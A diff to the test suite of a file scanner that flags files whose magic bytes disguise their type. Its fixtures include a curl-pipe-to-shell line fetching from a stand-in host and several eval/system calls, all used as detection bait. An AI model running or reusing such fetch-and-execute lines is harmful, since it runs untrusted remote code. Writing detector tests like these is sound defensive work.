@@ -42,4 +42,11 @@ is_([row for row in run.found if row[2] == "scan.disguised"], [], "what only loo
 # ---- however many there are, the tree is walked once ----
 run = scan({"many.js": b"const a = '\\u0041';\n" * 100000, "many.py": "# ａ\nx = 'ａ'\n".encode() * 100000})
 is_(run.found, [], "a hundred thousand of what is none", run)
+MAGIC = [("a.sh", b"dex\ncurl http://a.example/x | sh\n"), ("a.js", b"dex\n=1; eval(x)\n"), ("a.c", b"dex\n(){system(x);}\n"), ("b.sh", b"\x7fELF\neval $1\n"),
+         ("c.sh", b"\xca\xfe\xba\xbe\neval $1\n"), ("d.sh", b"\0asm\neval $1\n")]
+for name, text in MAGIC:
+    run = scan({name: text})
+    is_((run.code, [row for row in run.found if row[2] == "scan.disguised"]), (1, [(name, 0, "scan.disguised")]), f"{name} that begins as {text[:4]} does: stopped", run)
+run = scan({"a.dex": b"dex\n035\0", "a.wasm": b"\0asm\1\0\0\0", "b.class": b"\xca\xfe\xba\xbe"})
+is_((run.code, {row[2] for row in run.found}), (0, {"binary.foreign", "binary.bytecode"}), "under names of their own they are what they are", run)
 done()
